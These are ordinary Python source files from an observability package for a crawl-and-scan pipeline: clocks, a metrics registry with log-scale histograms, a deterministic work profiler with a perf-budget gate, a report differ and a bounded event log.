        raise NotImplementedError


class SimClock(Clock):
    """A manually-advanced clock; deterministic under seeded runs."""

    __slots__ = ("_now",)

    def __init__(self, start: float = 0.0) -> None:
        self._now = float(start)

    def now(self) -> float:
        return self._now

    def advance(self, seconds: float) -> float:
        """Move time forward; returns the new time."""
        if seconds < 0:
            raise ValueError("clocks only move forward (got %r)" % seconds)
        self._now += seconds
        return self._now


class MonotonicClock(Clock):
    """Wall clock (``time.monotonic``), zeroed at construction."""

    __slots__ = ("_epoch",)

    def __init__(self) -> None:
        self._epoch = time.monotonic()

    def now(self) -> float:
        return time.monotonic() - self._epoch
