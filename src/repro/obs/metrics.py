"""Process-local metrics: counters, gauges, log-bucket histograms.

The registry is deliberately boring: plain Python objects, no locks, no
background threads — a crawl-loop increment is one dict lookup plus one
float add, and when no observer is attached the pipeline never touches
this module at all (the disabled path is an attribute test at the call
site).  Histograms use fixed log-scale buckets so percentile summaries
(p50/p95/p99) cost O(buckets), never O(samples).
"""

from __future__ import annotations

import math
from bisect import bisect_left
from typing import Dict, Iterable, List, Optional, Tuple

__all__ = ["Counter", "Gauge", "Histogram", "MetricsRegistry",
           "default_latency_buckets", "default_count_buckets"]

LabelKey = Tuple[Tuple[str, str], ...]


def _label_key(labels: Dict[str, object]) -> LabelKey:
    if not labels:
        return ()
    items = [(k, str(v)) for k, v in labels.items()]
    if len(items) > 1:  # single-label calls skip the sort
        items.sort()
    return tuple(items)


def _render_key(name: str, labels: LabelKey) -> str:
    if not labels:
        return name
    return "%s{%s}" % (name, ",".join("%s=%s" % kv for kv in labels))


class Counter:
    """A monotonically increasing count."""

    __slots__ = ("name", "labels", "value")

    def __init__(self, name: str, labels: LabelKey = ()) -> None:
        self.name = name
        self.labels = labels
        self.value = 0.0

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise ValueError("counters only go up (got %r)" % amount)
        self.value += amount


class Gauge:
    """A value that can move both ways (plus a high-water helper)."""

    __slots__ = ("name", "labels", "value")

    def __init__(self, name: str, labels: LabelKey = ()) -> None:
        self.name = name
        self.labels = labels
        self.value = 0.0

    def set(self, value: float) -> None:
        self.value = float(value)

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount

    def set_max(self, value: float) -> None:
        """Keep the high-water mark (eval depth, op count, queue peak)."""
        if value > self.value:
            self.value = float(value)


def default_latency_buckets() -> List[float]:
    """Log-scale bounds from 1 ms to ~67 s (doubling): 18 buckets."""
    return [0.001 * (2.0 ** i) for i in range(17)]


def default_count_buckets() -> List[float]:
    """Log-scale bounds from 1 to ~1M (doubling): 21 buckets.

    The right scale for unit-count observations (interpreter steps per
    script, URLs per shard) — latency buckets top out at ~67, pushing
    every real count into the overflow slot and collapsing percentiles.
    """
    return [float(2 ** i) for i in range(21)]


class Histogram:
    """Fixed-bucket histogram with log-scale bounds and percentiles.

    ``bounds[i]`` is the *inclusive upper* edge of bucket ``i``; one
    overflow bucket catches everything above the last bound.
    """

    __slots__ = ("name", "labels", "bounds", "bucket_counts", "count", "total",
                 "min_value", "max_value", "observations")

    def __init__(self, name: str, bounds: Optional[Iterable[float]] = None,
                 labels: LabelKey = (),
                 record_observations: bool = False) -> None:
        self.name = name
        self.labels = labels
        self.bounds = sorted(bounds) if bounds is not None else default_latency_buckets()
        if not self.bounds:
            raise ValueError("histogram needs at least one bucket bound")
        self.bucket_counts = [0] * (len(self.bounds) + 1)
        self.count = 0
        self.total = 0.0
        self.min_value = math.inf
        self.max_value = -math.inf
        #: raw values, kept only in shard-buffer registries so the merge
        #: can *replay* them — re-running the exact float-accumulation
        #: sequence the serial loop would have, instead of adding a
        #: shard-local partial sum whose rounding differs in the last ulp
        self.observations: Optional[List[float]] = [] if record_observations else None

    def observe(self, value: float) -> None:
        self.count += 1
        self.total += value
        if value < self.min_value:
            self.min_value = value
        if value > self.max_value:
            self.max_value = value
        self.bucket_counts[self._bucket_index(value)] += 1
        if self.observations is not None:
            self.observations.append(value)

    def _bucket_index(self, value: float) -> int:
        # bisect_left on bounds gives the first bound >= value, i.e. the
        # inclusive-upper-edge bucket; values past the last bound land in
        # the overflow slot len(bounds)
        return bisect_left(self.bounds, value)

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0

    def percentile(self, q: float) -> float:
        """Approximate quantile ``q`` in [0, 1] from bucket edges.

        Returns the upper bound of the bucket holding the q-th sample
        (clamped to the observed max) — the standard fixed-bucket
        estimate; exact when samples sit on bucket edges.
        """
        if not 0.0 <= q <= 1.0:
            raise ValueError("quantile must be in [0, 1]")
        if self.count == 0:
            return 0.0
        rank = q * self.count
        cumulative = 0
        for index, bucket_count in enumerate(self.bucket_counts):
            cumulative += bucket_count
            if cumulative >= rank and bucket_count:
                edge = self.bounds[index] if index < len(self.bounds) else self.max_value
                return min(edge, self.max_value)
        return self.max_value

    def summary(self) -> Dict[str, float]:
        if self.count == 0:
            return {"count": 0, "sum": 0.0, "min": 0.0, "max": 0.0,
                    "mean": 0.0, "p50": 0.0, "p95": 0.0, "p99": 0.0}
        return {
            "count": self.count,
            "sum": self.total,
            "min": self.min_value,
            "max": self.max_value,
            "mean": self.mean,
            "p50": self.percentile(0.50),
            "p95": self.percentile(0.95),
            "p99": self.percentile(0.99),
        }


class MetricsRegistry:
    """Creates-on-first-use registry of named, optionally labeled metrics."""

    def __init__(self, record_observations: bool = False) -> None:
        self._counters: Dict[Tuple[str, LabelKey], Counter] = {}
        self._gauges: Dict[Tuple[str, LabelKey], Gauge] = {}
        self._histograms: Dict[Tuple[str, LabelKey], Histogram] = {}
        #: shard-buffer mode: histograms keep raw values so merge_from
        #: can replay them observation by observation (bit-exact totals)
        self._record_observations = record_observations

    # -- accessors (create on first use) ------------------------------------
    def counter(self, name: str, **labels: object) -> Counter:
        key = (name, _label_key(labels))
        metric = self._counters.get(key)
        if metric is None:
            metric = self._counters[key] = Counter(name, key[1])
        return metric

    def gauge(self, name: str, **labels: object) -> Gauge:
        key = (name, _label_key(labels))
        metric = self._gauges.get(key)
        if metric is None:
            metric = self._gauges[key] = Gauge(name, key[1])
        return metric

    def histogram(self, name: str, bounds: Optional[Iterable[float]] = None,
                  **labels: object) -> Histogram:
        key = (name, _label_key(labels))
        metric = self._histograms.get(key)
        if metric is None:
            if bounds is None:
                # repo-wide naming convention: *.seconds histograms hold
                # latencies, everything else holds unit counts
                bounds = (default_latency_buckets() if name.endswith("seconds")
                          else default_count_buckets())
            metric = self._histograms[key] = Histogram(
                name, bounds, key[1],
                record_observations=self._record_observations)
        return metric

    # -- merging -------------------------------------------------------------
    def merge_from(self, other: "MetricsRegistry") -> None:
        """Fold another registry's totals into this one.

        The shard-merge primitive: worker threads accumulate into their
        own registry (handles resolved against a per-shard buffer) and
        the main thread folds each buffer back in original shard order.
        Counters add, gauges keep the high-water mark (the only gauges
        written off the main thread are ``gauge_max`` semantics), and
        histograms *replay* their recorded observations when the source
        registry kept them (shard buffers do) — re-running the serial
        float-accumulation sequence exactly — falling back to a
        field-wise merge otherwise.  All readers sort by key, so
        creation order never leaks into output.
        """
        for key, counter in sorted(other._counters.items()):
            mine = self._counters.get(key)
            if mine is None:
                mine = self._counters[key] = Counter(key[0], key[1])
            mine.value += counter.value
        for key, gauge in sorted(other._gauges.items()):
            mine_g = self._gauges.get(key)
            if mine_g is None:
                mine_g = self._gauges[key] = Gauge(key[0], key[1])
            mine_g.set_max(gauge.value)
        for key, histogram in sorted(other._histograms.items()):
            mine_h = self._histograms.get(key)
            if mine_h is None:
                mine_h = self._histograms[key] = Histogram(
                    key[0], histogram.bounds, key[1])
            if mine_h.bounds != histogram.bounds:
                raise ValueError(
                    "histogram %r bucket bounds differ between registries"
                    % key[0])
            if histogram.observations is not None:
                for value in histogram.observations:
                    mine_h.observe(value)
                continue
            for index, bucket_count in enumerate(histogram.bucket_counts):
                mine_h.bucket_counts[index] += bucket_count
            mine_h.count += histogram.count
            mine_h.total += histogram.total
            if histogram.min_value < mine_h.min_value:
                mine_h.min_value = histogram.min_value
            if histogram.max_value > mine_h.max_value:
                mine_h.max_value = histogram.max_value

    # -- reading -------------------------------------------------------------
    def counters_named(self, name: str) -> List[Counter]:
        return [c for (n, _), c in sorted(self._counters.items()) if n == name]

    def counter_total(self, name: str) -> float:
        return sum(c.value for c in self.counters_named(name))

    def gauges_named(self, name: str) -> List[Gauge]:
        return [g for (n, _), g in sorted(self._gauges.items()) if n == name]

    def histograms_named(self, name: str) -> List[Histogram]:
        return [h for (n, _), h in sorted(self._histograms.items()) if n == name]

    def snapshot(self) -> Dict[str, Dict[str, object]]:
        """Everything, rendered with ``name{label=value}`` keys."""
        return {
            "counters": {
                _render_key(name, labels): counter.value
                for (name, labels), counter in sorted(self._counters.items())
            },
            "gauges": {
                _render_key(name, labels): gauge.value
                for (name, labels), gauge in sorted(self._gauges.items())
            },
            "histograms": {
                _render_key(name, labels): histogram.summary()
                for (name, labels), histogram in sorted(self._histograms.items())
            },
        }
