"""Deterministic work-accounting profiler and memory ledger.

Wall-clock profiles of this system are useless: almost every cost in
the reproduction is *simulated* (the HTTP round trip is a constant, the
scan services are priced by a latency model), so a sampling profiler
mostly measures the Python interpreter's mood.  What is real — and
deterministic — is the **work** each subsystem performs: interpreter
steps in the JS sandbox, tokens lexed, DOM nodes built, requests
served, AST nodes analyzed, engine scans run.  This module counts those
work units on a lightweight frame stack::

    profiler = WorkProfiler()
    with profiler.frame("scan"):
        with profiler.frame("sandbox"):
            profiler.add("js.interp.steps", 1841)

Work kinds are free-form dotted names; the load-bearing ones are
``js.interp.steps`` (simulated interpreter steps — identical under
both JS backends), ``js.vm.ops`` (instructions the vm backend actually
dispatched; absent under the ast backend — the steps/ops gap is the
bytecode win), ``js.tokens``, ``jsengine.cache.hits``/``.misses``,
``html.nodes``, and the per-phase request/scan counts.

and aggregates them into a :class:`WorkLedger` keyed by
``(frame-stack, kind)`` so costs roll up into a call tree.  Because
every unit is an integer count attributed by deterministic code paths,
the ledger of a ``workers=4`` run is **bit-identical** to the serial
run's — the same property the scanexec merge and provenance store pin —
which makes it the currency for perf budgets: a committed
``benchmarks/perf_budget.json`` can gate CI on "did this PR make the
pipeline *do more work*", independent of runner speed.

Three consumers sit on top:

* flamegraph tooling — :meth:`WorkLedger.to_collapsed` (Brendan Gregg
  collapsed-stack lines) and :meth:`WorkLedger.to_speedscope`
  (https://www.speedscope.app sampled-profile JSON);
* the run report — a "Work profile" section of top-N hot paths;
* the CI gate — :func:`check_budget` against the committed budget file.

The companion :class:`MemoryLedger` snapshots tracemalloc around each
pipeline phase (allocated delta + peak) and records object counts for
the big in-memory populations (simweb sites/pages, crawl records,
provenance records) — the before-picture ROADMAP item 3's bounded-
memory storage rewrite will be judged against.  Memory numbers are
*not* part of the bit-identity contract (allocator behaviour is the
interpreter's business); only the work ledger is.
"""

from __future__ import annotations

import json
import tracemalloc
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Tuple

__all__ = [
    "WorkProfiler",
    "WorkLedger",
    "MemoryLedger",
    "PhaseMemory",
    "BudgetEntry",
    "BudgetResult",
    "check_budget",
    "build_budget",
    "render_work_table",
    "render_budget_table",
]

#: the frame-stack key: outermost frame first
StackKey = Tuple[str, ...]


class WorkLedger:
    """Aggregated work units keyed by ``(frame stack, kind)``.

    Amounts are integral counts added in arbitrary order; integer sums
    in float arithmetic are exact (well below 2**53), so aggregation
    order — serial loop vs shard-replay — cannot perturb the totals.
    """

    def __init__(self) -> None:
        self.cells: Dict[Tuple[StackKey, str], float] = {}

    # -- writing -------------------------------------------------------------
    def add(self, stack: StackKey, kind: str, amount: float = 1.0) -> None:
        key = (stack, kind)
        self.cells[key] = self.cells.get(key, 0.0) + amount

    def merge(self, other: "WorkLedger") -> None:
        for (stack, kind), amount in other.cells.items():
            self.add(stack, kind, amount)

    # -- reading -------------------------------------------------------------
    def __len__(self) -> int:
        return len(self.cells)

    def __bool__(self) -> bool:
        return bool(self.cells)

    def total(self, kind: str) -> float:
        return sum(amount for (_stack, k), amount in self.cells.items() if k == kind)

    def totals_by_kind(self) -> Dict[str, float]:
        """Per-kind grand totals — the quantities the budget gate reads."""
        out: Dict[str, float] = {}
        for (_stack, kind), amount in self.cells.items():
            out[kind] = out.get(kind, 0.0) + amount
        return dict(sorted(out.items()))

    def rows(self) -> List[Tuple[StackKey, str, float]]:
        """Every cell as ``(stack, kind, units)``, sorted for stable output."""
        return sorted(
            ((stack, kind, amount) for (stack, kind), amount in self.cells.items()),
            key=lambda row: (row[0], row[1]),
        )

    def hot_paths(self, top: int = 10) -> List[Tuple[StackKey, str, float]]:
        """The ``top`` most expensive cells, heaviest first.

        Units of different kinds are not commensurable (an interpreter
        step is not a byte), so "heaviest" is within the raw counts —
        good enough to point at the loops that dominate, which is the
        question a profile answers.
        """
        ranked = sorted(
            ((stack, kind, amount) for (stack, kind), amount in self.cells.items()),
            key=lambda row: (-row[2], row[0], row[1]),
        )
        return ranked[:top]

    # -- (de)serialization ---------------------------------------------------
    def to_dict(self) -> Dict[str, Dict[str, float]]:
        """``{stack-path: {kind: units}}`` with ``;``-joined stacks."""
        out: Dict[str, Dict[str, float]] = {}
        for stack, kind, amount in self.rows():
            out.setdefault(";".join(stack), {})[kind] = amount
        return out

    def to_json(self) -> str:
        """Canonical JSON — byte-comparable across runs and worker counts."""
        return json.dumps(self.to_dict(), sort_keys=True)

    @classmethod
    def from_dict(cls, data: Dict[str, Dict[str, float]]) -> "WorkLedger":
        ledger = cls()
        for path, kinds in data.items():
            stack = tuple(path.split(";")) if path else ()
            for kind, amount in kinds.items():
                ledger.add(stack, kind, float(amount))
        return ledger

    # -- flamegraph exports --------------------------------------------------
    def to_collapsed(self) -> str:
        """Brendan Gregg collapsed-stack lines: ``a;b;kind units``.

        The work kind becomes the leaf frame, so a flamegraph shows the
        counter *inside* the frame that incurred it.  Frame names are
        sanitised (``;`` and whitespace are structural in the format).
        """
        lines = []
        for stack, kind, amount in self.rows():
            frames = [_collapsed_frame(name) for name in stack] + [_collapsed_frame(kind)]
            lines.append("%s %d" % (";".join(frames), round(amount)))
        return "\n".join(lines)

    def to_speedscope(self, name: str = "repro work profile") -> Dict[str, object]:
        """A speedscope ``sampled`` profile: one sample per ledger cell,
        weighted by its work units (open the file at speedscope.app)."""
        frame_index: Dict[str, int] = {}
        frames: List[Dict[str, str]] = []

        def index_of(frame_name: str) -> int:
            index = frame_index.get(frame_name)
            if index is None:
                index = frame_index[frame_name] = len(frames)
                frames.append({"name": frame_name})
            return index

        samples: List[List[int]] = []
        weights: List[float] = []
        for stack, kind, amount in self.rows():
            samples.append([index_of(f) for f in stack] + [index_of(kind)])
            weights.append(amount)
        total = sum(weights)
        return {
            "$schema": "https://www.speedscope.app/file-format-schema.json",
            "shared": {"frames": frames},
            "profiles": [{
                "type": "sampled",
                "name": name,
                "unit": "none",
                "startValue": 0,
                "endValue": total,
                "samples": samples,
                "weights": weights,
            }],
            "activeProfileIndex": 0,
            "exporter": "repro.obs.profile",
            "name": name,
        }


def _collapsed_frame(name: str) -> str:
    return name.replace(";", ":").replace(" ", "_")


class WorkProfiler:
    """Frame stack + ledger: the live object instrumentation writes to.

    Single-threaded by the same contract as the
    :class:`~repro.obs.observer.RunObserver` that owns it; worker
    threads buffer ``work``/``frame`` calls in a
    :class:`~repro.scanexec.recording.RecordingObserver` and the
    executor replays them on the main thread, which reconstructs the
    same stacks — aggregation is order-independent, so the ledger stays
    bit-identical to a serial run.
    """

    def __init__(self) -> None:
        self.ledger = WorkLedger()
        self._stack: List[str] = []
        #: cached tuple key, rebuilt only on push/pop — ``add`` is called
        #: far more often than ``frame`` and must stay one dict update
        self._key: StackKey = ()

    @property
    def stack(self) -> StackKey:
        return self._key

    def push(self, name: str) -> None:
        self._stack.append(name)
        self._key = tuple(self._stack)

    def pop(self) -> None:
        self._stack.pop()
        self._key = tuple(self._stack)

    @contextmanager
    def frame(self, name: str) -> Iterator[None]:
        self.push(name)
        try:
            yield
        finally:
            self.pop()

    def add(self, kind: str, amount: float = 1.0) -> None:
        self.ledger.add(self._key, kind, amount)


# ---------------------------------------------------------------------------
# Memory ledger
# ---------------------------------------------------------------------------
@dataclass
class PhaseMemory:
    """tracemalloc accounting for one pipeline phase."""

    #: net bytes still allocated when the phase ended (its survivors)
    allocated_bytes: int = 0
    #: peak traced bytes observed during the phase
    peak_bytes: int = 0
    #: traced bytes live when the phase started (context for the peak)
    start_bytes: int = 0

    def to_dict(self) -> Dict[str, int]:
        return {
            "allocated_bytes": self.allocated_bytes,
            "peak_bytes": self.peak_bytes,
            "start_bytes": self.start_bytes,
        }


class MemoryLedger:
    """Per-phase tracemalloc snapshots plus object-population gauges.

    Tracing starts lazily on the first :meth:`phase` and is stopped by
    :meth:`close` *only* if this ledger started it — a surrounding
    profiler session keeps ownership of its own tracing.  Numbers here
    are diagnostic, not part of any bit-identity gate.
    """

    def __init__(self) -> None:
        self.phases: Dict[str, PhaseMemory] = {}
        self.objects: Dict[str, int] = {}
        self._started_tracing = False

    def _ensure_tracing(self) -> None:
        if not tracemalloc.is_tracing():
            tracemalloc.start()
            self._started_tracing = True

    @contextmanager
    def phase(self, name: str) -> Iterator[PhaseMemory]:
        """Measure a phase; records even when the body raises."""
        self._ensure_tracing()
        tracemalloc.reset_peak()
        start, _ = tracemalloc.get_traced_memory()
        record = PhaseMemory(start_bytes=start)
        # record under a unique name up front so a crash mid-phase still
        # leaves its partial accounting visible
        self.phases[name] = record
        try:
            yield record
        finally:
            current, peak = tracemalloc.get_traced_memory()
            record.allocated_bytes = current - start
            record.peak_bytes = peak

    def count_objects(self, name: str, count: int) -> None:
        """Gauge one object population (e.g. ``crawl.records``)."""
        self.objects[name] = int(count)

    @property
    def peak_bytes(self) -> int:
        return max((p.peak_bytes for p in self.phases.values()), default=0)

    def close(self) -> None:
        if self._started_tracing and tracemalloc.is_tracing():
            tracemalloc.stop()
        self._started_tracing = False

    def __enter__(self) -> "MemoryLedger":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()

    def to_dict(self) -> Dict[str, object]:
        return {
            "phases": {name: phase.to_dict()
                       for name, phase in sorted(self.phases.items())},
            "objects": dict(sorted(self.objects.items())),
            "peak_bytes": self.peak_bytes,
        }


# ---------------------------------------------------------------------------
# Perf-budget gate
# ---------------------------------------------------------------------------
@dataclass
class BudgetEntry:
    """One work kind's measured-vs-budget comparison."""

    kind: str
    budget: float
    measured: float
    #: "ok" | "over" | "under" | "unbudgeted" | "absent"
    status: str

    @property
    def ratio(self) -> float:
        return self.measured / self.budget if self.budget else float("inf")

    @property
    def drift_pct(self) -> float:
        return 100.0 * (self.ratio - 1.0) if self.budget else 0.0


@dataclass
class BudgetResult:
    """The whole gate decision: regressions fail, everything else warns."""

    entries: List[BudgetEntry] = field(default_factory=list)
    tolerance: float = 0.10

    @property
    def regressions(self) -> List[BudgetEntry]:
        return [e for e in self.entries if e.status == "over"]

    @property
    def ok(self) -> bool:
        return not self.regressions


def check_budget(totals: Dict[str, float], budget: Dict[str, object]) -> BudgetResult:
    """Compare measured per-kind work totals against a budget document.

    ``budget`` is the parsed ``benchmarks/perf_budget.json``::

        {"meta": {...pinned run parameters...},
         "tolerance": 0.10,
         "budgets": {"js.interp.steps": 123456, ...}}

    A kind regresses when ``measured > budget * (1 + tolerance)`` —
    the build should fail.  A kind far *under* budget is flagged
    ``under`` (refresh the budget to keep the gate tight), new kinds
    are ``unbudgeted``, and budgeted kinds that vanished are
    ``absent``; none of those fail the gate on their own.
    """
    tolerance = float(budget.get("tolerance", 0.10))  # type: ignore[arg-type]
    budgets = budget.get("budgets", {})
    if not isinstance(budgets, dict):
        raise ValueError("budget document has no 'budgets' mapping")
    result = BudgetResult(tolerance=tolerance)
    for kind in sorted(set(budgets) | set(totals)):
        allowed = float(budgets.get(kind, 0.0))
        measured = float(totals.get(kind, 0.0))
        if kind not in budgets:
            status = "unbudgeted"
        elif kind not in totals or measured == 0.0:
            status = "absent"
        elif measured > allowed * (1.0 + tolerance):
            status = "over"
        elif measured < allowed * (1.0 - tolerance):
            status = "under"
        else:
            status = "ok"
        result.entries.append(BudgetEntry(kind=kind, budget=allowed,
                                          measured=measured, status=status))
    return result


def build_budget(totals: Dict[str, float], meta: Optional[Dict[str, object]] = None,
                 tolerance: float = 0.10) -> Dict[str, object]:
    """The budget document for the current measured totals."""
    return {
        "meta": dict(meta or {}),
        "tolerance": tolerance,
        "budgets": {kind: amount for kind, amount in sorted(totals.items())},
    }


# ---------------------------------------------------------------------------
# Rendering
# ---------------------------------------------------------------------------
def render_work_table(ledger: WorkLedger, top: int = 10) -> str:
    """The `repro profile` hot-path table: top cells plus kind totals."""
    lines = ["Work profile — top %d hot paths" % top, ""]
    rows = ledger.hot_paths(top)
    if not rows:
        lines.append("  (no work recorded — was the profiler enabled?)")
        return "\n".join(lines)
    width = max(len(";".join(stack) or "(root)") for stack, _k, _a in rows)
    width = max(width, len("path"))
    lines.append("  %-*s  %-22s %14s" % (width, "path", "kind", "units"))
    for stack, kind, amount in rows:
        lines.append("  %-*s  %-22s %14d"
                     % (width, ";".join(stack) or "(root)", kind, round(amount)))
    lines.append("")
    lines.append("Totals by kind")
    for kind, amount in ledger.totals_by_kind().items():
        lines.append("  %-30s %14d" % (kind, round(amount)))
    return "\n".join(lines)


def render_budget_table(result: BudgetResult) -> str:
    """Human-readable gate verdict, regressions first."""
    order = {"over": 0, "under": 1, "unbudgeted": 2, "absent": 3, "ok": 4}
    entries = sorted(result.entries, key=lambda e: (order[e.status], e.kind))
    lines = ["Perf budget (tolerance ±%.0f%%): %s"
             % (100 * result.tolerance,
                "OK" if result.ok else "%d REGRESSION(S)" % len(result.regressions)),
             ""]
    lines.append("  %-10s %-30s %14s %14s %9s" % ("status", "kind", "budget", "measured", "drift"))
    for entry in entries:
        drift = ("%+8.1f%%" % entry.drift_pct) if entry.budget else "      new"
        lines.append("  %-10s %-30s %14d %14d %s"
                     % (entry.status, entry.kind, round(entry.budget),
                        round(entry.measured), drift))
    return "\n".join(lines)
