"""Structural diff of two run-telemetry reports.

``repro obs-report`` emits a JSON report (see :mod:`repro.obs.report`);
this module compares two of them — a committed baseline and a fresh
run — and decides whether the candidate *regressed*: counters moved
beyond tolerance, verdict totals drifted, sections or keys appeared or
vanished, histograms reshaped.  The comparison is structural (the whole
nested dict, path by path), so a new metric or a dropped section is a
finding too, not just changed numbers.

A seeded run is deterministic, so the default tolerance is exact; the
relative tolerance exists for cross-scale or cross-seed comparisons
where shapes, not bytes, are the invariant.  CI wires this against
``benchmarks/baseline_report.json`` and fails on any drift.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Sequence, Tuple

__all__ = ["DiffConfig", "DiffEntry", "RunDiff", "diff_reports"]

#: report paths that are volatile by construction and excluded by
#: default: the event tail is a ring-buffer sample, and the raw metrics
#: snapshot duplicates every counter already diffed via its section
DEFAULT_IGNORED_PATHS: Tuple[str, ...] = ("events.tail", "metrics")


@dataclass
class DiffConfig:
    """Tolerance policy for :func:`diff_reports`."""

    #: maximum allowed relative change for numeric leaves (0.0 = exact)
    rel_tol: float = 0.0
    #: absolute slack under which numeric drift never counts (float dust)
    abs_tol: float = 1e-9
    #: dotted path prefixes to skip entirely
    ignore: Sequence[str] = DEFAULT_IGNORED_PATHS

    def ignored(self, path: str) -> bool:
        return any(path == prefix or path.startswith(prefix + ".")
                   for prefix in self.ignore)


@dataclass
class DiffEntry:
    """One divergence between baseline and candidate."""

    path: str
    kind: str  # "changed" | "added" | "removed" | "type"
    baseline: object = None
    candidate: object = None
    #: signed (b-a) / max(|a|, |b|) for numeric changes; 0.0 otherwise
    rel_change: float = 0.0

    def render(self) -> str:
        if self.kind == "added":
            return "+ %-40s added: %r" % (self.path, _short(self.candidate))
        if self.kind == "removed":
            return "- %-40s removed (was %r)" % (self.path, _short(self.baseline))
        if self.kind == "type":
            return "! %-40s type %s -> %s" % (
                self.path, type(self.baseline).__name__, type(self.candidate).__name__)
        if isinstance(self.baseline, (int, float)) and isinstance(self.candidate, (int, float)):
            return "~ %-40s %s -> %s (%+.2f%%)" % (
                self.path, _short(self.baseline), _short(self.candidate),
                100.0 * self.rel_change)
        return "~ %-40s %r -> %r" % (self.path, _short(self.baseline), _short(self.candidate))


def _short(value: object, limit: int = 60) -> object:
    text = repr(value) if isinstance(value, str) else value
    if isinstance(value, str) and len(value) > limit:
        return value[: limit - 1] + "…"
    return text


@dataclass
class RunDiff:
    """Everything :func:`diff_reports` found."""

    regressions: List[DiffEntry] = field(default_factory=list)
    #: numeric drift inside tolerance — reported, never failing
    tolerated: List[DiffEntry] = field(default_factory=list)
    paths_compared: int = 0

    @property
    def ok(self) -> bool:
        return not self.regressions

    def render_text(self, baseline_name: str = "baseline",
                    candidate_name: str = "candidate") -> str:
        lines = [
            "obs-diff: %s vs %s — %d paths compared, %d regression(s), "
            "%d within tolerance"
            % (baseline_name, candidate_name, self.paths_compared,
               len(self.regressions), len(self.tolerated)),
        ]
        for entry in self.regressions:
            lines.append("  " + entry.render())
        if self.tolerated:
            lines.append("  tolerated drift:")
            for entry in self.tolerated:
                lines.append("    " + entry.render())
        if self.ok:
            lines.append("  OK: no regression")
        return "\n".join(lines)


def _rel_change(a: float, b: float) -> float:
    denominator = max(abs(a), abs(b))
    return (b - a) / denominator if denominator else 0.0


def diff_reports(baseline: Dict[str, Any], candidate: Dict[str, Any],
                 config: Optional[DiffConfig] = None) -> RunDiff:
    """Structurally compare two run-report dicts."""
    config = config if config is not None else DiffConfig()
    diff = RunDiff()
    _walk(baseline, candidate, "", config, diff)
    return diff


def _walk(a: Any, b: Any, path: str, config: DiffConfig, diff: RunDiff) -> None:
    if path and config.ignored(path):
        return
    diff.paths_compared += 1

    # bool is an int subclass; compare it as an exact value, not a number
    a_num = isinstance(a, (int, float)) and not isinstance(a, bool)
    b_num = isinstance(b, (int, float)) and not isinstance(b, bool)
    if a_num and b_num:
        delta = abs(float(b) - float(a))
        if delta <= config.abs_tol:
            return
        rel = _rel_change(float(a), float(b))
        entry = DiffEntry(path=path, kind="changed", baseline=a, candidate=b,
                          rel_change=rel)
        (diff.tolerated if abs(rel) <= config.rel_tol else diff.regressions).append(entry)
        return

    if isinstance(a, dict) and isinstance(b, dict):
        for key in a:
            child = "%s.%s" % (path, key) if path else str(key)
            if key in b:
                _walk(a[key], b[key], child, config, diff)
            elif not config.ignored(child):
                diff.regressions.append(DiffEntry(path=child, kind="removed",
                                                  baseline=a[key]))
        for key in b:
            child = "%s.%s" % (path, key) if path else str(key)
            if key not in a and not config.ignored(child):
                diff.regressions.append(DiffEntry(path=child, kind="added",
                                                  candidate=b[key]))
        return

    if isinstance(a, (list, tuple)) and isinstance(b, (list, tuple)):
        if len(a) != len(b):
            diff.regressions.append(DiffEntry(
                path=path + ".length", kind="changed",
                baseline=len(a), candidate=len(b),
                rel_change=_rel_change(len(a), len(b))))
            return
        for index, (item_a, item_b) in enumerate(zip(a, b)):
            _walk(item_a, item_b, "%s[%d]" % (path, index), config, diff)
        return

    if type(a) is not type(b):
        diff.regressions.append(DiffEntry(path=path, kind="type",
                                          baseline=a, candidate=b))
        return

    if a != b:
        diff.regressions.append(DiffEntry(path=path, kind="changed",
                                          baseline=a, candidate=b))
