"""Bounded structured event log.

A ring buffer of ``{seq, time, kind, **fields}`` dicts — the run's
flight recorder.  Old events are evicted (never an unbounded list: a
scale-0.5 crawl logs ~875k URL instances) and the eviction count is
kept so a report can say how much history was dropped.  Export is
JSON-lines, one event per line, append-friendly.
"""

from __future__ import annotations

import json
from collections import deque
from typing import Deque, Dict, List, Optional

from .clock import Clock, SimClock

__all__ = ["EventLog"]


class EventLog:
    """Fixed-capacity structured event ring buffer."""

    def __init__(self, capacity: int = 2048, clock: Optional[Clock] = None) -> None:
        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self.capacity = capacity
        self.clock = clock if clock is not None else SimClock()
        self._events: Deque[Dict[str, object]] = deque(maxlen=capacity)
        self._seq = 0

    def emit(self, kind: str, **fields: object) -> Dict[str, object]:
        event: Dict[str, object] = {
            "seq": self._seq,
            "time": self.clock.now(),
            "kind": kind,
        }
        for key, value in fields.items():
            event[key] = value
        self._seq += 1
        self._events.append(event)
        return event

    # -- reading -------------------------------------------------------------
    def __len__(self) -> int:
        return len(self._events)

    @property
    def total_emitted(self) -> int:
        return self._seq

    @property
    def dropped(self) -> int:
        """Events evicted by the ring bound."""
        return self._seq - len(self._events)

    def tail(self, n: int = 20) -> List[Dict[str, object]]:
        if n <= 0:
            return []
        return list(self._events)[-n:]

    def of_kind(self, kind: str) -> List[Dict[str, object]]:
        return [e for e in self._events if e["kind"] == kind]

    # -- export --------------------------------------------------------------
    def to_jsonl(self) -> str:
        return "\n".join(json.dumps(event, sort_keys=True) for event in self._events)
