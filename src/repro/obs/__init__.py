"""Observability: metrics, tracing, and structured run telemetry.

The crawl-and-scan pipeline is instrumented end to end — HTTP client,
crawlers, detection engines, JS sandbox — behind one opt-in hook::

    from repro.obs import RunObserver
    from repro.crawler import CrawlPipeline

    observer = RunObserver()
    pipeline = CrawlPipeline(web, observer=observer)
    outcome = pipeline.run()

    from repro.obs import build_run_report, render_run_report_markdown
    report = build_run_report(pipeline, outcome)       # JSON-ready dict
    print(render_run_report_markdown(report))          # human summary

With no observer attached every hook is a single ``is not None`` test:
pipeline outputs are byte-identical to an unobserved run.
"""

from .clock import Clock, MonotonicClock, SimClock
from .events import EventLog
from .metrics import Counter, Gauge, Histogram, MetricsRegistry, default_latency_buckets
from .observer import NULL_OBSERVER, NullObserver, RunObserver
